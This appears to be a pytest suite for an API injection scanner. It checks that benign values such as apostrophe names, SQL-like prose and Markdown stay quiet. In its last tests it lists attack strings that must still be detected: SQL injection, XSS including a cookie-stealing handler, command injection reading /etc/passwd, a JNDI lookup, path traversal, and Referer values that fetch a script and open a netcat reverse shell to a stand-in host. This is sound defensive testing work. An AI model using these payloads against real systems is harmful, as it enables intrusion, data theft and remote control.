"""Realistic benign API values that look like injection to a naive matcher: none may fire.

Written for APICensus (issue 11): names with apostrophes, SQL-looking prose, file paths in
documentation, shell snippets in help texts, markup in notes, JSON bodies with code snippets,
Markdown. Each value is sent the ways an API carries it (query parameter, JSON string, form
field, Referer/User-Agent where it fits) and the injection scanner must report nothing. The
attack counterparts at the end keep the rules honest: the same words with an attack's grammar
still fire.
"""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from analyzer.detect.injection import scan
from analyzer.detect.model import DetectExchange

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

NAMES = [
    "O'Brien",
    "Mary O'Brien-Smith",
    "D'Angelo",
    "Ngũgĩ wa Thiong'o",
    "L'Oréal Paris",
    "Toys 'R' Us",
    "Rock 'n' roll",
]

SQL_LOOKING_PROSE = [
    "select the best option",
    "Please select one from the list",
    "drop me a line",
    "Drop table tennis practice on Friday",
    "Update: the order is shipped",
    "insert coin to continue",
    "delete my account, please",
    "union station, platform 3",
    "We had a union meeting and will select delegates from each team",
    "Where is my order? It's been a week",
    "Is 1 = 1? Asking for a friend",
    "Just drop it",
    "Parents' evening: bring the kids' reports",
    "Tom & Jerry; a classic",
    "Set an alert (daily) for price drops",
    "Please confirm (by email) your booking",
    "Get more sleep (at least 8 hours) and exercise",
    "wait a minute (or two) and retry",
    "The exec (CFO) approved it",
    "We need to alter the plan and collate the results",
    "Say \"or else\" one more time",
    "Arrows like --> and <-- are used in diagrams",
    "Temperature ~0 degrees overnight",
    "She said: 'having fun' -- and left",
    "The value was ~5 and then 10 - 2 = 8",
    "50% off -- today only!",
    "Fish & chips @ 12.50",
    "ping me when you're free",
    "ping 127.0.0.1 to check the loopback, then ping the gateway",
]

DOC_PATHS = [
    "Config lives in /etc/myapp/config.yaml",
    "See docs/getting-started.md",
    "Copy ~/Downloads/report.pdf to the shared drive",
    "C:\\Users\\Public\\Documents\\invoice.pdf",
    "The logs are under var/log in the container",
]

HELP_TEXTS = [
    "Run `make test` before pushing",
    "To install, run pip install apicensus",
    "Use git status to see your changes",
    "Type help for a list of commands",
    "Run the tests with pytest -q, then open the report",
    "Press Ctrl+C to stop; then restart the service",
]

NOTES = [
    "<b>important</b>: call back",
    "<i>Note</i>: the <b>new</b> price applies from May",
    "Use <br> for line breaks",
    "a < b and c > d",
    "1 < 2 > 0",
    "Price: <10 EUR>",
]

MARKDOWN = [
    "# Release notes\n\n- **Fixed** the login bug\n- Added `--verbose` flag\n\nSee [docs](https://docs.example/guide).",
    "## Usage\n\n```\nnpm install\nnpm run build\n```\n\nThat's it!",
    "> Quote: \"select your plan\" -- then click *Continue*",
    "Steps:\n\n```sql\nSELECT id, name FROM users WHERE id = 42;\n```\n\nthen restart with\n\n```bash\nsudo systemctl restart app\n```",
    "| name | value |\n|------|-------|\n| a    | 1     |",
]

SEARCHES = [
    "rock & roll",
    "c++ tutorial",
    "c# vs java",
    "what is 2+2",
    "how to use \"quotes\" in json",
    "best pizza near me!",
    "100% cotton t-shirt (size M)",
    "email@example.com",
]

ARTICLE = (
    "SQL injection happens when an application builds a query by pasting user input into it. "
    "For example, the statement select * from users where name = 'alice' becomes dangerous when "
    "the input is ' or 1=1 -- because the quote closes the string and the rest is read as SQL. "
    "The fix is simple: use parameterised queries, so that the database never parses the input "
    "as code. Most frameworks do this for you; an ORM such as SQLAlchemy binds every value. "
    "Validate input as well, and grant the application account only the rights it needs."
)

ALL_TEXTS = NAMES + SQL_LOOKING_PROSE + DOC_PATHS + HELP_TEXTS + NOTES + MARKDOWN + SEARCHES + [ARTICLE]


def _exchange(*, query: str = "", body: bytes = b"", ctype: str = "", headers: tuple[tuple[str, str], ...] = ()) -> DetectExchange:
    request_headers = (("User-Agent", BROWSER), *headers) + ((("Content-Type", ctype),) if ctype else ())
    return DetectExchange(
        ts=0.0, client_ip="192.0.2.10", host="api.example", method="POST" if body else "GET", path="/api/v1/notes",
        query=query, status=200, request_headers=request_headers, request_body=body,
    )


@pytest.mark.parametrize("text", ALL_TEXTS)
def test_benign_value_in_query_is_quiet(text: str) -> None:
    assert scan(_exchange(query="q=" + quote(text, safe=""))) == [], text


@pytest.mark.parametrize("text", ALL_TEXTS)
def test_benign_value_in_json_body_is_quiet(text: str) -> None:
    body = json.dumps({"title": "note", "text": text, "tags": ["a", "b"]}).encode()
    assert scan(_exchange(body=body, ctype="application/json")) == [], text


@pytest.mark.parametrize("text", NAMES + SQL_LOOKING_PROSE + SEARCHES)
def test_benign_value_in_form_is_quiet(text: str) -> None:
    body = ("name=" + quote(text, safe="") + "&comment=" + quote(text, safe="")).encode()
    assert scan(_exchange(body=body, ctype="application/x-www-form-urlencoded")) == [], text


def test_json_body_with_code_snippets_is_quiet() -> None:
    body = json.dumps({
        "question": "Why does my loop not stop?",
        "code": "for (let i = 0; i < items.length; i++) {\n  total += items[i].price;\n}",
        "python": "for item in items:\n    print(item.name)\n    total += item.price",
        "sql_doc": "Use SELECT name FROM users WHERE id = ? with a bound parameter",
    }).encode()
    assert scan(_exchange(body=body, ctype="application/json")) == []


@pytest.mark.parametrize(
    "referer",
    [
        "https://www.google.com/search?q=o%27brien+family+history",
        "https://shop.example/cart;jsessionid=0A1B2C3D4E?step=2",
        "https://docs.example/guide#install-on-linux",
        "https://news.example/2024/05/rock-%26-roll-is-back",
        "https://www.google.com/search?q=linux%3Bls+-al+meaning",
        "https://forum.example/t/why-does-ping-time-out;page=2",
        "https://docs.example/shell/redirects-and-pipes?q=cat+file+%7C+grep+foo",
    ],
)
def test_benign_referers_are_quiet(referer: str) -> None:
    assert scan(_exchange(headers=(("Referer", referer),))) == [], referer


@pytest.mark.parametrize(
    ("subtype", "text"),
    [
        ("sqli", "O'Brien' OR '1'='1"),
        ("sqli", "1 UNION SELECT username, password FROM users--"),
        ("sqli", "x'; DROP TABLE users; --"),
        ("sqli", "1 AND SLEEP(5)"),
        ("sqli", "user' collate nocase --"),
        ("sqli", "exec('xp_cmdshell ''dir''')"),
        ("xss", "<b onmouseover=alert(1)>hi</b>"),
        ("xss", "--><script>alert(1)</script>"),
        ("cmd_injection", "127.0.0.1; cat /etc/passwd"),
        ("cmd_injection", "8.8.8.8 && ping 10.0.0.1"),
        ("cmd_injection", "pi$()ng 127.0.0.1"),
        ("cmd_injection", "~+"),
        ("cmd_injection", "bash -c 'whoami'"),
        ("cmd_injection", "c=cat&&a=/etc/passwd&&$c $a"),
        ("cmd_injection", "\\ls -la"),
        ("jndi", "$&lbrace;jndi:ldap://198.51.100.7/a}"),
        ("xss", "<a href=\"ja&tab;vascript:alert(1)\">x</a>"),
        ("xss", "(document/*x*/)['cookie']"),
        ("sqli", "sleep(5)"),
        ("sqli", "1 or sleep (5)#"),
        ("path_traversal", "../../../../etc/passwd"),
    ],
)
def test_attack_counterparts_still_fire(subtype: str, text: str) -> None:
    found = {hit.subtype for hit in scan(_exchange(query="q=" + quote(text, safe="")))}
    assert subtype in found, (text, found)


def test_sql_behind_prose_head_still_fires() -> None:
    # The prose exemption reads the head of a document: an injection at its start is seen.
    text = "x' UNION SELECT password FROM users -- " + ARTICLE
    assert "sqli" in {hit.subtype for hit in scan(_exchange(query="q=" + quote(text, safe="")))}


@pytest.mark.parametrize(
    "referer",
    [
        "https://shop.example/;cat /etc/passwd",
        "https://shop.example/?q=x;wget http://198.51.100.7/a.sh",
        ";env",
        "https://shop.example/x;nc 198.51.100.7 4444 -e /bin/sh",
    ],
)
def test_commands_in_referers_still_fire(referer: str) -> None:
    found = {hit.subtype for hit in scan(_exchange(headers=(("Referer", referer),)))}
    assert "cmd_injection" in found, (referer, found)


def test_markup_in_a_prose_document_still_fires() -> None:
    # Only SQL is read in a document's first sentence: stored XSS in a long comment is an attack.
    text = ARTICLE + " Nice post! <img src=x onerror=alert(document.cookie)>"
    body = json.dumps({"comment": text}).encode()
    assert "xss" in {hit.subtype for hit in scan(_exchange(body=body, ctype="application/json"))}


@pytest.mark.parametrize("path", ["/api/v1/artifacts/src/**/test_app.py", "/wiki/Function_(mathematics)"])
def test_globs_and_parentheses_in_paths_are_quiet(path: str) -> None:
    x = DetectExchange(ts=0.0, client_ip="192.0.2.10", host="api.example", method="GET", path=path, query="",
                       status=200, request_headers=(("User-Agent", BROWSER),), request_body=b"")
    assert scan(x) == [], path
